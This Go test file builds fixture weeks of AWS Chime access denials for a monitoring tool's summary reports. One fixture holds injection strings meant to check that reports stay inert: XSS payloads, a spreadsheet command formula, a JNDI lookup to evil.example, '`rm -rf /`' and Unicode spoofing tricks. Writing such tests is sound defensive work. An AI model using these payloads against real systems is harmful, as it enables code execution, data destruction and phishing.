package summary_test

import (
	"fmt"
	"testing"
	"time"

	"chimewatch/pkg/config"
	"chimewatch/pkg/denial"
	"chimewatch/pkg/detect"
	"chimewatch/pkg/summary"
	"chimewatch/pkg/tally"
	"chimewatch/pkg/triage"
)

// busyWeek has a stolen key, a curious app user, a broken deployment, twelve
// roles that lack one permission, a policy of the organisation that denies, and
// what everyday brings.
func busyWeek(t testing.TB) *scene {
	s := newScene(t, week(t, "2026-W26"))
	s.data.Watching = s.period.Before(4).Start
	s.healthy(4120)
	everyday(s)

	// Somebody tries the doors with an IAM user's key, from an unknown network.
	thief := who{"arn:aws:iam::" + account + ":user/ci-legacy", "IAMUser", "203.0.113.77"}
	var tried []denial.Call
	for i, op := range []string{"ListAppInstances", "ListChannels", "ListChannelMessages", "SearchChannels", "PutMessagingStreamingConfigurations", "CreateAppInstanceAdmin", "ListAppInstanceUsers"} {
		tried = append(tried, s.refuse(thief, op, denial.IAM, s.at(51.4+float64(i)*0.05), time.Minute, 3)...)
	}
	again := s.refuse(thief, "PutMessagingStreamingConfigurations", denial.IAM, s.at(160.2), 7*time.Minute, 9)
	findings := []string{
		s.find(detect.OperationEnumeration, actor(thief.key), triage.High, triage.Probing, "7 operations refused within 60 minutes, the threshold is 5", tried),
		s.find(detect.CriticalOperation, actor(thief.key), triage.Critical, triage.Probing, "PutMessagingStreamingConfigurations was refused: it would copy every message to a stream", again),
		s.find(detect.DenialBurst, actor(thief.key), triage.High, triage.Probing, "21 denials within 5 minutes, the threshold is 10", tried),
	}
	s.raise(actor(thief.key), triage.Critical, triage.Probing, []string{
		"7 operations refused within 60 minutes, 2 of them critical",
		"from a network that was not seen before: 203.0.113.0/24",
		"tried again six days later with one critical operation",
	}, []detect.Rule{detect.OperationEnumeration, detect.CriticalOperation, detect.DenialBurst}, findings, append(tried, again...))

	// An app user opens other people's channels; the role behind it serves all.
	backend := who{role("chat-backend"), "AssumedRole", "10.20.4.11"}
	peeks := s.refuse(backend, "ListChannelMessages", denial.AppRole, s.at(90), 41*time.Minute, 24)
	bearer := tally.Subject{Kind: tally.Bearer, Key: "arn:aws:chime:us-east-1:" + account + ":app-instance/7c5a/user/u-48213"}
	id := s.find(detect.SlowSweep, bearer, triage.Medium, triage.Probing, "24 channels refused within 24 hours, the threshold for an app user is 5", peeks)
	s.raise(bearer, triage.Medium, triage.Probing, []string{"24 channels of others refused within 24 hours", "the app makes such calls for nobody else"},
		[]detect.Rule{detect.SlowSweep}, []string{id}, peeks)

	// A person at home, from a new network, a little beyond what is usual.
	person := who{role("AWSReservedSSO_SupportAccess_0123456789abcdef/dana@example.com"), "AssumedRole", "198.51.100.23"}
	calls := s.refuse(person, "DescribeChannel", denial.IAM, s.at(108.1), 20*time.Second, 12)
	calls = append(calls, s.refuse(person, "ListChannelMemberships", denial.IAM, s.at(108.2), 20*time.Second, 6)...)
	id = s.find(detect.DenialBurst, actor(person.key), triage.Medium, triage.Unclear, "12 denials within 5 minutes, the threshold is 10", calls)
	s.raise(actor(person.key), triage.Medium, triage.Unclear, []string{"12 denials within 5 minutes", "from a network that was not seen before"},
		[]detect.Rule{detect.DenialBurst}, []string{id}, calls)

	// Twelve services lack one permission, three of them are new.
	for i := range 12 {
		w := who{role(fmt.Sprintf("notify-%02d", i+1)), "AssumedRole", fmt.Sprintf("10.20.8.%d", i+10)}
		if i >= 3 {
			s.refuse(w, "ListChannels", denial.IAM, s.at(-100+float64(i)), time.Hour, 30)
		}
		calls := s.refuse(w, "ListChannels", denial.IAM, s.at(2+float64(i)/3), 2*time.Hour, 60+7*i)
		if i%4 == 0 {
			s.find(detect.RateAnomaly, actor(w.key), triage.Low, triage.Misconfiguration, "more denials than usual in an hour", calls[:8])
		}
	}
	// A deployment on Thursday lacks four permissions.
	deploy := who{role("moderation-worker"), "AssumedRole", "10.20.9.40"}
	for i, op := range []string{"DescribeChannel", "ListChannelMessages", "RedactChannelMessage", "UpdateChannelMessage"} {
		calls := s.refuse(deploy, op, denial.IAM, s.at(81+float64(i)*0.02), 3*time.Minute, 45)
		s.find(detect.DenialBurst, actor(deploy.key), triage.Low, triage.Misconfiguration, "10 denials within 5 minutes, the threshold is 10", calls[:20])
	}
	// A policy of the organisation denies what a job does every night.
	for d := range 7 {
		calls := s.refuse(who{role("nightly-export"), "AssumedRole", "10.20.3.3"}, "GetMessagingStreamingConfigurations", denial.IAM, s.at(float64(d)*24+2.5), time.Minute, 4)
		for i := range calls {
			calls[i].Message = denial.Message{Action: "chime:GetMessagingStreamingConfigurations", Policy: denial.ServiceControlPolicy, Explicit: true,
				PolicyARN: "arn:aws:organizations::999988887777:policy/o-exampleorgid/service_control_policy/p-9x8w7v6u"}
		}
		s.find(detect.DenialBurst, actor(role("nightly-export")), triage.Low, triage.Misconfiguration, "refused every night: routine", calls)
	}
	s.refuse(who{role("web-client"), "AssumedRole", "192.0.2.10"}, "SendChannelMessage", denial.Credential, s.at(70), 11*time.Minute, 57)

	// Its incident is silenced.
	scan := s.refuse(who{role("posture-scanner"), "AssumedRole", "10.20.1.5"}, "ListChannels", denial.IAM, s.at(99), time.Minute, 11)
	s.raise(actor(role("posture-scanner")), triage.Medium, triage.Unclear, []string{"11 denials within 11 minutes"}, []detect.Rule{detect.DenialBurst}, nil, scan)
	s.data.Incidents[len(s.data.Incidents)-1].Silenced = "posture-scanner"

	s.data.Suppressions = []summary.Suppression{
		{Name: "posture-scanner", Reason: "nightly scan of our own", Owner: "secops@example.com", Until: date(2026, 12, 31), Match: "role/posture-scanner in account " + account, Incidents: 1, Denials: 11,
			Callers: &config.Suppression{Principal: role("posture-*"), Until: config.Date{Time: date(2026, 12, 31)}}},
		{Name: "load-test", Reason: "load test of the new cluster", Owner: "chat-team@example.com", Until: date(2026, 7, 3), Match: "role/load-test, SendChannelMessage"},
		{Name: "old-partner", Reason: "migration", Owner: "dana@example.com", Until: date(2026, 6, 20), Match: "network 192.0.2.0/28"},
	}
	return s
}

// everyday is what five weeks bring.
func everyday(s *scene) {
	for d := -28; d < 7; d++ {
		s.refuse(who{role("posture-scanner"), "AssumedRole", "10.20.1.5"}, "ListAppInstances", denial.IAM, s.at(float64(d)*24+3), 2*time.Minute, 5+(d+28)%3)
		if (d+28)%7 < 5 {
			s.refuse(who{role("chat-backend"), "AssumedRole", "10.20.4.11"}, "SendChannelMessage", denial.AppRole, s.at(float64(d)*24+9.5), 37*time.Minute, 11+(d*d)%5)
		}
	}
	for i := range 9 {
		s.refuse(who{fmt.Sprintf("arn:aws:iam::%s:user/dev-%d", account, i+1), "IAMUser", "10.30.0.7"}, "DescribeChannel", denial.IAM, s.at(float64(i*17)+10), time.Minute, 1+i%2)
	}
}

func date(y, m, d int) time.Time { return time.Date(y, time.Month(m), d, 0, 0, 0, 0, time.UTC) }

// quietWeek has nothing but what is known.
func quietWeek(t testing.TB) *scene {
	s := newScene(t, week(t, "2026-W26"))
	s.data.Watching = s.period.Before(4).Start
	s.healthy(287)
	for i := range 3 {
		s.refuse(who{fmt.Sprintf("arn:aws:iam::%s:user/dev-%d", account, i+1), "IAMUser", "10.30.0.7"}, "DescribeChannel", denial.IAM, s.at(float64(i*17)+10), time.Minute, 2)
	}
	return s
}

// silentWeek has no denial at all.
func silentWeek(t testing.TB) *scene {
	s := newScene(t, week(t, "2026-W26"))
	s.data.Watching = s.period.Before(4).Start
	s.healthy(12)
	return s
}

// firstWeek has nothing to compare with.
func firstWeek(t testing.TB) *scene {
	s := newScene(t, week(t, "2026-W26"))
	s.data.Watching = s.period.Start
	s.healthy(900)
	s.refuse(who{role("notify-01"), "AssumedRole", "10.20.8.10"}, "ListChannels", denial.IAM, s.at(2), 2*time.Hour, 60)
	calls := s.refuse(who{"arn:aws:iam::" + account + ":root", "Root", "203.0.113.9"}, "DeleteChannel", denial.IAM, s.at(100), time.Minute, 1)
	id := s.find(detect.RootDenied, actor("arn:aws:iam::"+account+":root"), triage.High, triage.Unclear, "the root user was refused", calls)
	s.raise(actor("arn:aws:iam::"+account+":root"), triage.High, triage.Unclear, []string{"the root user was refused"}, []detect.Rule{detect.RootDenied}, []string{id}, calls)
	return s
}

// gapWeek is one in which the watch slept, lost messages and had to look up.
func gapWeek(t testing.TB) *scene {
	s := quietWeek(t)
	kept := s.data.Health.Hours[:0]
	for i, h := range s.data.Health.Hours {
		if i >= 57 && i < 66 || i == 120 || i >= 140 && i < 143 {
			continue
		}
		kept = append(kept, h)
	}
	kept[70].Dead, kept[70].Malformed, kept[71].Missed, kept[72].Conflicts, kept[73].Expired = 3, 2, 31, 1, 40
	kept[74].Covered, kept[75].Covered, kept[76].Covered = 0, 0, 40 // CloudTrail held the requests back
	s.data.Health.Hours = kept
	return s
}

// clockChange is a week in which the clocks go forward or back on Sunday.
func clockChange(t testing.TB, id string) *scene {
	s := newScene(t, week(t, id))
	s.data.Watching = s.period.Before(4).Start
	s.healthy(100)
	last := s.period.End.Add(-time.Hour)
	// One denial in every hour of the Sunday, and one on either side of the week.
	for h := last.AddDate(0, 0, -1).Add(30 * time.Minute); h.Before(s.period.End.Add(time.Hour)); h = h.Add(time.Hour) {
		s.refuse(who{role("clockwork"), "AssumedRole", "10.0.0.1"}, "ListChannels", denial.IAM, h, 0, 1)
	}
	s.refuse(who{role("before"), "AssumedRole", "10.0.0.2"}, "ListChannels", denial.IAM, s.period.Start.Add(-time.Minute), 0, 3)
	s.refuse(who{role("after"), "AssumedRole", "10.0.0.3"}, "ListChannels", denial.IAM, s.period.End, 0, 3)
	return s
}

// hostileWeek is written by somebody who wants the report to act.
func hostileWeek(t testing.TB) *scene {
	s := newScene(t, week(t, "2026-W26"))
	s.data.Watching = s.period.Before(1).Start
	s.healthy(100)
	for i, text := range hostileTexts() {
		w := who{"arn:aws:iam::" + account + ":role/" + text, "AssumedRole", "203.0.113.5"}
		calls := s.refuse(w, "Op"+text, denial.IAM, s.at(float64(i)*3+1), time.Minute, 12-i%4)
		for j := range calls {
			calls[j].Key.EventID = text
			calls[j].Key.Region = text
			calls[j].Principal.Account = text
			calls[j].Message.Action = text
			calls[j].Message.PolicyARN = "arn:aws:iam::" + account + ":policy/" + text
			calls[j].Message.Explicit = i%2 == 0
		}
		id := s.find(detect.DenialBurst, actor(w.key), triage.Medium, triage.Probing, text, calls)
		if i%3 == 0 {
			s.raise(actor(w.key), triage.High, triage.Probing, []string{text}, []detect.Rule{detect.DenialBurst}, []string{id}, calls)
		}
	}
	s.data.Suppressions = []summary.Suppression{{Name: "<img src=x onerror=alert(1)>", Reason: "=cmd|' /C calc'!A0", Owner: "@everyone", Until: date(2026, 12, 31), Match: "https://evil.example/"}}
	return s
}

// hostileTexts are what somebody who wants a report to act would write.
func hostileTexts() []string {
	return []string{
		"<script>alert(1)</script>", `"><img src=x onerror=alert(1)>`, "javascript:alert(1)", "{{.Script}}", "</style><style>*{display:none}",
		"https://evil.example/login", "www.evil.example", "@everyone", "=HYPERLINK(\"http://evil.example\")", "a\nFIX\n  nothing to do",
		"\x1b[2J\x1b[31mred", "txt\u202egnp.exe", "zero\u200bwidth\u2066", "Z\u0351\u0351\u0351\u0351\u0351algo", "\u0430dmin", "\xff\xfe\xfd",
		"`rm -rf /`", "[click](http://evil.example)", "${jndi:ldap://evil.example/a}", string(make([]byte, 3000)), "<!--", "]]>", "\u2028\u2029",
		"https://us-east-1.console.aws.amazon.com.evil.example/", "aaaaaaaa-bbbb-cccc-dddd-eeeeeeeeeeee\" onclick=\"alert(1)",
	}
}

// largeWeek has very many principals and findings.
func largeWeek(t testing.TB, principals, findings int) *scene {
	s := newScene(t, week(t, "2026-W26"))
	s.data.Watching = s.period.Before(4).Start
	s.healthy(90000)
	operations := []string{"ListChannels", "DescribeChannel", "ListChannelMessages", "SendChannelMessage", "SearchChannels", "GetChannelMessage", "DeleteChannel"}
	rules := detect.Rules()
	for i := range principals {
		w := who{role(fmt.Sprintf("service-%05d-worker", i)), "AssumedRole", fmt.Sprintf("10.%d.%d.%d", i%3, i/250%250, i%250)}
		calls := s.refuse(w, operations[i%7], denial.IAM, s.at(float64(i%160)), time.Minute, 1+i%9)
		if i%3 == 0 {
			s.refuse(w, operations[(i+2)%7], denial.IAM, s.at(float64(i%120)+1), time.Hour, 2)
		}
		if i%11 == 0 {
			s.refuse(w, "SendChannelMessage", denial.AppRole, s.at(float64(i%100)+20), time.Hour, 3)
		}
		if i < findings {
			s.find(rules[i%len(rules)].Rule, actor(w.key), triage.Low+triage.Severity(i%37/12), triage.Misconfiguration, "made up", calls)
		}
		if i < 40 {
			s.raise(actor(w.key), triage.Medium+triage.Severity(i%3), triage.Probing, []string{"made up"}, []detect.Rule{detect.DenialBurst}, nil, calls)
		}
	}
	return s
}
